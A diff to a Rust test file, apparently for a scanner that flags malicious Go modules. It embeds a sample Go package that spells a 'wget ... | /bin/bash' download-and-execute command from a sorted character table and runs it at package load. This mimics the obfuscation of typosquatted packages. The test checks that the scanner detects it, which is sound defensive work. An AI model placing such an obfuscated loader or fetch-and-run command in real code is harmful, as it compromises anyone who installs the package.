@@ -142,21 +142,10 @@ fn go_module(source: &str) -> Analysis {
 
 #[test]
 fn a_command_spelled_from_a_character_table_is_read_and_shown() {
-    let command = "wget -O - https://cdn.example/storage/a31546bf | /bin/bash &";
-    let mut table: Vec<char> = command.chars().collect();
-    table.sort();
-    table.dedup();
-    let literals: Vec<String> = table.iter().map(|c| format!("\"{c}\"")).collect();
-    let chain: Vec<String> = command
-        .chars()
-        .map(|c| format!("t[{}]", table.iter().position(|&x| x == c).unwrap()))
-        .collect();
-    let source = format!(
-        "package hypert\n\nimport \"os/exec\"\n\nfunc run() error {{\n\tt := []string{{{}}}\n\tc := {}\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n\treturn nil\n}}\n\nvar started = run()\n",
-        literals.join(", "),
-        chain.join(" + ")
-    );
-    let analysis = go_module(&source);
+    // The shape of the 2025 Go typosquats: `wget -O - https://... | /bin/bash &`
+    // spelled from a sorted table of its characters, run from a package-level var.
+    let source = "package hypert\n\nimport \"os/exec\"\n\nfunc run() error {\n\tt := []string{\" \", \"&\", \"-\", \".\", \"/\", \"1\", \"3\", \"4\", \"5\", \"6\", \":\", \"O\", \"a\", \"b\", \"c\", \"d\", \"e\", \"f\", \"g\", \"h\", \"i\", \"l\", \"m\", \"n\", \"o\", \"p\", \"r\", \"s\", \"t\", \"w\", \"x\", \"|\"}\n\tc := t[29] + t[18] + t[16] + t[28] + t[0] + t[2] + t[11] + t[0] + t[2] + t[0] + t[19] + t[28] + t[28] + t[25] + t[27] + t[10] + t[4] + t[4] + t[14] + t[15] + t[23] + t[3] + t[16] + t[30] + t[12] + t[22] + t[25] + t[21] + t[16] + t[4] + t[27] + t[28] + t[24] + t[26] + t[12] + t[18] + t[16] + t[4] + t[12] + t[6] + t[5] + t[8] + t[7] + t[9] + t[13] + t[17] + t[0] + t[31] + t[0] + t[4] + t[13] + t[20] + t[23] + t[4] + t[13] + t[12] + t[27] + t[19] + t[0] + t[1]\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n\treturn nil\n}\n\nvar started = run()\n";
+    let analysis = go_module(source);
     assert_verdict(&analysis, Verdict::Malicious);
     let shown = analysis
         .findings
